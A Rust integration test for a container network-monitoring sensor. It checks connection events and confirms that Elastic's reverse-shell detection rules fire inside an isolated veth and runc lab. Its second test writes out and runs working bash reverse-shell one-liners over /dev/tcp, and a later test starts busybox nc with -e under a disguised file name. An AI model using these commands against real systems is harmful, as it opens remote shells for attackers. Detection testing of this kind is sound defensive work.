//! Issue #24 end to end: TCP connections from a runc container whose
//! network namespace is joined by a veth pair to a peer namespace the test
//! creates (203.0.113.1 ↔ 203.0.113.2, 2001:db8::1 ↔ 2001:db8::2), with a
//! listener on the peer playing the attacker. Nothing leaves the machine.
//!
//! - Every event the kernel programs produce (attempted, accepted, closed)
//!   carries the process, its container and the tuple as Elastic Defend
//!   writes them.
//! - With Elastic's Linux catalogue (`SENSOR_ELASTIC_RULES`), "Potential
//!   Reverse Shell via Child" and "Potential Reverse Shell" fire once
//!   each, and neither for loopback or a benign `curl`.

use std::path::{Path, PathBuf};
use std::process::Child;
use std::time::Duration;

use serde_json::Value;

use tests::container::{self, Container};
use tests::netns::{VethPair, CLIENT_IP, CLIENT_IP6, PEER_IP, PEER_IP6};
use tests::{get, read_lines, skip_or_fail, start_or_skip, wait_line};

const WAIT: Duration = Duration::from_secs(15);

fn rule_file(dir: &Path, name: &str, query: &str) -> PathBuf {
    let path = dir.join(format!("{name}.toml"));
    let text = format!(
        "[metadata]\ncreation_date = \"2026/12/08\"\nmaturity = \"production\"\n\
         updated_date = \"2026/12/08\"\n\n[rule]\nauthor = [\"tests\"]\ndescription = \"d\"\n\
         name = \"{name}\"\nrisk_score = 1\nrule_id = \"{name}\"\nseverity = \"low\"\n\
         type = \"eql\"\nlanguage = \"eql\"\nquery = '''\n{query}\n'''\n"
    );
    std::fs::write(&path, text).expect("rule file");
    path
}

/// The pair and a container on its client side running `sleep`, or `None`
/// (skipped, or failed under CI=true) when either cannot be made here.
fn setup(tag: &str) -> Option<(VethPair, Container)> {
    if !container::runc_available() {
        skip_or_fail("runc is not installed");
        return None;
    }
    let pair = match VethPair::create(tag) {
        Ok(p) => p,
        Err(e) => {
            skip_or_fail(&format!("cannot create the veth pair: {e:#}"));
            return None;
        }
    };
    let ctr = Container::start(&container::Spec {
        args: vec!["/bin/sleep".into(), "600".into()],
        netns: Some(pair.client_path()),
        ..Default::default()
    });
    match ctr {
        Ok(c) => Some((pair, c)),
        Err(e) => {
            skip_or_fail(&format!("cannot start a container: {e:#}"));
            None
        }
    }
}

fn run_in(ctr: &Container, script: &str) {
    let out = ctr.exec(&["/bin/bash", "-c", script]).expect("runc exec");
    eprintln!(
        "container ran {script:?}: {} {}",
        out.status,
        String::from_utf8_lossy(&out.stderr).trim()
    );
}

fn finish(mut listener: Child) {
    let _ = listener.kill();
    let _ = listener.wait();
}

fn action(v: &Value) -> &str {
    get(v, "event.action").as_str().unwrap_or("")
}

#[test]
fn connections_carry_the_tuple_the_process_and_its_container() {
    let Some((pair, ctr)) = setup("n1") else {
        return;
    };
    let rules = tempfile::tempdir().expect("tempdir");
    rule_file(
        rules.path(),
        "net-4711",
        "network where destination.port in (4711, 4712)",
    );
    let Some(mut sensor) = start_or_skip(&["--rules", &rules.path().display().to_string()]) else {
        return;
    };
    assert!(
        sensor.stderr.iter().any(|l| l
            == "sensor: network events via tracepoints (sock/inet_sock_set_state, \
                syscalls/sys_exit_accept4, sys_exit_accept): connection_attempted, \
                connection_accepted, disconnect_received"),
        "{:?}",
        sensor.stderr
    );
    for (port, peer, client, family) in [
        (4711, PEER_IP, CLIENT_IP, "ipv4"),
        (4712, PEER_IP6, CLIENT_IP6, "ipv6"),
    ] {
        let listener = pair.listen_once(port).expect("listener");
        run_in(
            &ctr,
            &format!("exec 3<>/dev/tcp/{peer}/{port}; read -t 3 line <&3; exec 3<&-"),
        );
        let is = |v: &Value, act: &str| {
            action(v) == act && get(v, "destination.port") == &Value::from(port)
        };
        let attempted = wait_line(&sensor.events_path(), WAIT, |v| {
            is(v, "connection_attempted")
        })
        .expect("connection_attempted event");
        let accepted = wait_line(&sensor.events_path(), WAIT, |v| {
            is(v, "connection_accepted")
        })
        .expect("connection_accepted event");
        let closed = wait_line(&sensor.events_path(), WAIT, |v| {
            is(v, "disconnect_received") && get(v, "network.direction") == "egress"
        })
        .expect("disconnect_received event of the client");
        finish(listener);

        // The client's side: the container's bash, egress.
        assert_eq!(
            get(&attempted, "event.category"),
            &serde_json::json!(["network"])
        );
        assert_eq!(get(&attempted, "event.type"), &serde_json::json!(["start"]));
        assert_eq!(get(&attempted, "process.name"), "bash");
        assert_eq!(get(&attempted, "container.id"), ctr.id());
        assert_eq!(get(&attempted, "orchestrator.resource.id"), ctr.pod_uid());
        assert_eq!(get(&attempted, "source.ip"), client);
        assert_eq!(get(&attempted, "destination.ip"), peer);
        assert_eq!(get(&attempted, "destination.address"), peer);
        assert_eq!(
            get(&attempted, "network"),
            &serde_json::json!({"direction": "egress", "transport": "tcp", "type": family})
        );
        assert!(get(&attempted, "process.parent.pid").is_u64());
        assert!(get(&attempted, "process.entity_id").is_string());

        // The peer's side: busybox nc accepted it, ingress; source is the
        // client that connected, with the port the kernel chose.
        assert_eq!(get(&accepted, "event.type"), &serde_json::json!(["start"]));
        assert_eq!(get(&accepted, "process.name"), "busybox");
        assert!(get(&accepted, "container").is_null());
        assert_eq!(get(&accepted, "source.ip"), client);
        assert!(get(&accepted, "source.port")
            .as_u64()
            .is_some_and(|p| p > 0));
        assert_eq!(get(&accepted, "destination.ip"), peer);
        assert_eq!(get(&accepted, "network.direction"), "ingress");

        // The close names the client process, whatever context the kernel
        // closed the socket in.
        assert_eq!(get(&closed, "event.type"), &serde_json::json!(["end"]));
        assert_eq!(
            get(&closed, "process.entity_id"),
            get(&attempted, "process.entity_id")
        );
        assert_eq!(get(&closed, "container.id"), ctr.id());
        assert_eq!(get(&closed, "source.port"), get(&accepted, "source.port"));
    }
    let summary = sensor.stop().expect("summary");
    assert_eq!(summary["lost_net"], 0, "{summary}");
}

/// `$SENSOR_ELASTIC_RULES/linux/<file>`, or `None` (a skip outside CI).
fn catalogue_rule(file: &str) -> Option<PathBuf> {
    let Some(dir) = std::env::var_os("SENSOR_ELASTIC_RULES") else {
        assert!(
            !tests::in_ci(),
            "SENSOR_ELASTIC_RULES is not set: CI runs the catalogue tests"
        );
        eprintln!("SENSOR_ELASTIC_RULES is not set: catalogue test not run");
        return None;
    };
    let path = PathBuf::from(dir).join("linux").join(file);
    assert!(path.is_file(), "{} is missing", path.display());
    Some(path)
}

#[test]
fn elastic_reverse_shell_rules_fire_once_each_and_never_for_loopback_or_curl() {
    let (Some(via_child), Some(via_parent)) = (
        catalogue_rule("execution_shell_via_child_tcp_utility_linux.toml"),
        catalogue_rule("execution_shell_via_tcp_cli_utility_linux.toml"),
    ) else {
        return;
    };
    let Some((pair, ctr)) = setup("n2") else {
        return;
    };
    let rules = tempfile::tempdir().expect("tempdir");
    for r in [&via_child, &via_parent] {
        std::fs::copy(r, rules.path().join(r.file_name().expect("name"))).expect("copy");
    }
    let Some(mut sensor) = start_or_skip(&["--rules", &rules.path().display().to_string()]) else {
        return;
    };

    // 1. The shell's own redirection connects, then it becomes `bash -i`.
    let l = pair.listen_once(4444).expect("listener");
    run_in(
        &ctr,
        &format!("bash -c 'bash -i >& /dev/tcp/{PEER_IP}/4444 0>&1'; true"),
    );
    finish(l);
    // 2. A shell opens the socket, then starts `bash -i` on it as a child
    //    (`; true` keeps bash from exec'ing the last command in place).
    let l = pair.listen_once(4445).expect("listener");
    run_in(
        &ctr,
        &format!("exec 3<>/dev/tcp/{PEER_IP}/4445; bash -i <&3 >&3 2>&3; true"),
    );
    finish(l);
    // 3. Both again, to loopback inside the container's namespace: the
    //    rules exclude 127.0.0.0/8.
    let l = pair.listen_once_in_client(4446).expect("listener");
    run_in(
        &ctr,
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4446 0>&1'; true",
    );
    finish(l);
    let l = pair.listen_once_in_client(4447).expect("listener");
    run_in(
        &ctr,
        "exec 3<>/dev/tcp/127.0.0.1/4447; bash -i <&3 >&3 2>&3; true",
    );
    finish(l);
    // 4. A benign download.
    let l = pair.listen_once(4448).expect("listener");
    run_in(
        &ctr,
        &format!("curl -s -m 3 http://{PEER_IP}:4448/ -o /dev/null; true"),
    );
    finish(l);

    // Both rules' alerts, then a moment for anything extra.
    for name in [
        "Potential Reverse Shell via Child",
        "Potential Reverse Shell",
    ] {
        wait_line(&sensor.alerts_path(), WAIT, |v| {
            get(v, "kibana.alert.rule.name") == name
        })
        .unwrap_or_else(|e| panic!("{name}: {e}"));
    }
    std::thread::sleep(Duration::from_secs(6));
    sensor.stop().expect("summary");
    // A sequence's alert is one shell alert plus a building-block alert
    // per event (as Kibana writes them): count the shells.
    let alerts: Vec<Value> = read_lines(&sensor.alerts_path())
        .into_iter()
        .filter(|a| get(a, "kibana.alert.building_block_type").is_null())
        .collect();
    let named = |name: &str| -> Vec<&Value> {
        alerts
            .iter()
            .filter(|v| get(v, "kibana.alert.rule.name") == name)
            .collect()
    };
    let child = named("Potential Reverse Shell via Child");
    let parent = named("Potential Reverse Shell");
    assert_eq!(child.len(), 1, "{alerts:#?}");
    assert_eq!(parent.len(), 1, "{alerts:#?}");
    assert_eq!(alerts.len(), 2, "{alerts:#?}");
    // Each names the container, and the network event it joined.
    for a in [child[0], parent[0]] {
        assert_eq!(get(a, "container.id"), ctr.id(), "{a:#}");
    }
    let events = read_lines(&sensor.events_path());
    let port_of = |a: &Value| -> Option<u64> {
        let ids: Vec<&str> = get(a, "kibana.alert.ancestors")
            .as_array()?
            .iter()
            .filter_map(|x| x["id"].as_str())
            .collect();
        events
            .iter()
            .find(|e| {
                ids.contains(&get(e, "event.id").as_str().unwrap_or(""))
                    && action(e) == "connection_attempted"
            })
            .and_then(|e| get(e, "destination.port").as_u64())
    };
    assert_eq!(port_of(child[0]), Some(4444));
    assert_eq!(port_of(parent[0]), Some(4445));
}

#[test]
fn a_busy_servers_accepts_are_filtered_in_the_kernel_when_no_rule_names_it() {
    let Some(pair) = (match VethPair::create("n3") {
        Ok(p) => Some(p),
        Err(e) => {
            skip_or_fail(&format!("cannot create the veth pair: {e:#}"));
            None
        }
    }) else {
        return;
    };
    if !container::runc_available() {
        skip_or_fail("runc is not installed");
        return;
    }
    let rules = tempfile::tempdir().expect("tempdir");
    rule_file(
        rules.path(),
        "shell-accepts",
        r#"network where event.action == "connection_accepted" and
           process.name in ("bash", "sh", "netcat-ctl")"#,
    );
    let Some(mut sensor) = start_or_skip(&["--rules", &rules.path().display().to_string()]) else {
        return;
    };
    assert!(
        sensor.stderr.iter().any(|l| l
            == "sensor: network prefilter: connection_attempted: not needed; \
                connection_accepted: 3 process names; disconnect_received: not needed"),
        "{:?}",
        sensor.stderr
    );
    // Started after the sensor: the kernel judged busybox's name at exec.
    let www = tempfile::tempdir().expect("tempdir");
    std::fs::write(www.path().join("index.html"), "ok\n").expect("index");
    let ctr = Container::start(&container::Spec {
        args: vec![
            "/bin/busybox".into(),
            "httpd".into(),
            "-f".into(),
            "-p".into(),
            "8080".into(),
            "-h".into(),
            www.path().display().to_string(),
        ],
        rw_binds: vec![www.path().to_path_buf()],
        netns: Some(pair.client_path()),
        ..Default::default()
    })
    .expect("container");
    const REQUESTS: u64 = 1000;
    let out = pair
        .in_peer("bash")
        .arg("-c")
        .arg(format!(
            "for i in $(seq {REQUESTS}); do exec 3<>/dev/tcp/{CLIENT_IP}/8080 || exit 1; \
             printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null; exec 3<&-; done"
        ))
        .output()
        .expect("client");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A listener the rule names (busybox's nc, from a file named
    // `netcat-ctl`) still has its accept sent.
    let named = www.path().join("netcat-ctl");
    std::fs::copy("/bin/busybox", &named).expect("copy busybox");
    let mut l = pair
        .in_peer("bash")
        .arg("-c")
        .arg(format!(
            "exec -a nc {} -l -p 4449 -e /bin/true",
            named.display()
        ))
        .spawn()
        .expect("named listener");
    std::thread::sleep(Duration::from_millis(300));
    let out = pair
        .in_client("bash")
        .arg("-c")
        .arg(format!(
            "exec 3<>/dev/tcp/{PEER_IP}/4449; cat <&3 >/dev/null"
        ))
        .output()
        .expect("client");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let _ = l.wait();
    drop(ctr);
    std::thread::sleep(Duration::from_millis(1500)); // a counter report
    let summary = sensor.stop().expect("summary");
    let count = |verdict: &str| -> u64 {
        summary["net_prefilter"]
            .as_array()
            .into_iter()
            .flatten()
            .filter(|c| c["op"] == "connection_accepted" && c["verdict"] == verdict)
            .filter_map(|c| c["count"].as_u64())
            .sum()
    };
    assert!(count("filtered") >= REQUESTS, "{summary}");
    assert_eq!(count("passed"), 1, "{summary}");
    let accepted: Vec<Value> = read_lines(&sensor.events_path())
        .into_iter()
        .filter(|v| action(v) == "connection_accepted")
        .collect();
    assert_eq!(accepted.len(), 1, "{accepted:#?}");
    assert_eq!(get(&accepted[0], "process.name"), "netcat-ctl");
    assert_eq!(get(&accepted[0], "destination.port"), 4449);
}
